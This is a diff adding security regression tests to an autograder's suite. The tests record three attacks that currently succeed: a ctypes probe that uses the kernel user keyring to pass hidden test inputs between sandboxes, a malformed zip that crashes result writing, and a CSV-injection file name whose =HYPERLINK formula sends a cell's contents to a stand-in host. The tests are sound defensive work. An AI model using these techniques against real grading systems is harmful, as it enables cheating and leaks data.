@@ -223,6 +223,57 @@ def test_a_worker_cannot_compute_more_than_its_budget_between_requests(probe_cop
     assert spun <= limits.time_s, f"{spun:.1f} CPU seconds computed on a budget of {limits.time_s} s ({spent:.2f} s spent)"
 
 
+# ----------------------------------------------------------------------------- between sandboxes
+KEYRING = '''
+import ctypes, os
+_libc = ctypes.CDLL(None, use_errno=True)
+_libc.syscall.restype = ctypes.c_long
+USER_KEYRING = ctypes.c_long(-4)  # KEY_SPEC_USER_KEYRING: uid 65534's, the same in every sandbox
+
+
+def put(name, text):
+    """add_key("user", name, text) on the user keyring; the key id (negative: refused)."""
+    return _libc.syscall(248, b"user", name.encode(), text.encode(), len(text), USER_KEYRING)
+
+
+def get(name):
+    """What the key ``name`` holds (KEYCTL_SEARCH, KEYCTL_READ), '' if none; the key is then invalidated."""
+    key = _libc.syscall(250, 10, USER_KEYRING, b"user", name.encode(), 0)
+    if key < 0:
+        return ""
+    buffer = ctypes.create_string_buffer(4096)
+    size = _libc.syscall(250, 11, ctypes.c_long(key), buffer, 4096)
+    _libc.syscall(250, 21, ctypes.c_long(key))  # KEYCTL_INVALIDATE: leave nothing behind
+    return buffer.raw[:max(size, 0)].decode(errors="replace")
+'''
+
+
+@needs_sandbox
+@pytest.mark.xfail(strict=True, reason="ATTACK SUCCEEDS: every root-graded sandbox runs as uid 65534 in the host's user "
+                                       "namespace with no seccomp filter, so all share uid 65534's kernel user keyring "
+                                       "(add_key/keyctl), which outlives each sandbox: a channel between students and "
+                                       "from one grade's hidden phase to a later grade's visible messages")
+def test_one_sandbox_leaves_nothing_for_another_in_the_kernel_keyring(tmp_path):
+    name = f"hidden-inputs-{os.getpid()}-{time.monotonic_ns()}"
+    copies = []
+    for who in ("first", "second"):
+        copy = tmp_path / who
+        shutil.copytree(REPO / "helpers", copy / "helpers", ignore=shutil.ignore_patterns("__pycache__"))
+        (copy / "helpers" / "probe.py").write_text(KEYRING)
+        copies.append(copy)
+    first = Pool(copies[0], Limits(time_s=20))
+    try:  # e.g. a hidden phase, recording what its tests sent
+        first.student_for("probe").call("probe.put", name, "hidden input 4242.125")
+    finally:
+        first.close()
+    second = Pool(copies[1], Limits(time_s=20))  # another student's grade, or the next grade: its visible phase
+    try:
+        seen = second.student_for("probe").call("probe.get", name)
+    finally:
+        second.close()
+    assert seen == "", f"the second sandbox read {seen!r}"
+
+
 # ----------------------------------------------------------------------------- Gradescope's upload
 def _gradescope_root(tmp_path: Path) -> Path:
     root = tmp_path / "autograder"
@@ -328,3 +379,30 @@ def test_a_symlink_member_is_unpacked_as_a_plain_file(tmp_path):
             zf.writestr(info, body)
     opened = submission.open_source(archive, tmp_path / "out")
     assert not (opened.source / "helpers" / "nn").is_symlink()
+
+
+@pytest.mark.xfail(strict=True, reason="ATTACK SUCCEEDS: an archive whose members make a file and a folder of one "
+                                       "path (source/helpers/x and source/helpers/x/y.py) raises FileExistsError in "
+                                       "_unpack (artifacts.atomic_write's mkdir); gradescope.run catches only "
+                                       "SubmissionError, UnsafeCopy, FileNotFoundError and RuntimeError, so no "
+                                       "results.json is written and the traceback is the run's output")
+def test_gradescope_writes_results_for_an_archive_with_a_file_where_a_folder_goes(tmp_path):
+    root = _gradescope_root(tmp_path)
+    _archive(root / "submission" / "submission.zip", {"source/helpers/__init__.py": b"", "source/helpers/x": b"",
+                                                      "source/helpers/x/y.py": b""})
+    payload = gradescope.run(root, Limits(time_s=20), only="nn.layers.relu_backward")
+    assert payload["score"] == 0 and "Not graded" in payload["output"]
+    assert (root / "results" / "results.json").is_file()
+
+
+@pytest.mark.xfail(strict=True, reason="ATTACK SUCCEEDS: gradebook.csv writes the archive's file name (and the "
+                                       "reason) as is: a name starting with = + - @ is a formula to a spreadsheet "
+                                       "(CSV injection; grading/batch.py gradebook_csv)")
+def test_the_gradebook_holds_no_formula_from_an_archive_name():
+    record = {"student": "x", "archive": "=HYPERLINK(\"http://example.invalid/?\"&A1,\"click\").zip",
+              "status": "refused", "reason": "refused", "results": {}, "consistency": "", "inference": "",
+              "isolation": "", "seconds": 0, "sha256": "0" * 64, "identical_to": []}
+    import csv
+    import io
+    rows = list(csv.reader(io.StringIO(batch.gradebook_csv([record]))))
+    assert not any(cell[:1] in ("=", "+", "-", "@") for row in rows[1:] for cell in row), rows[1]
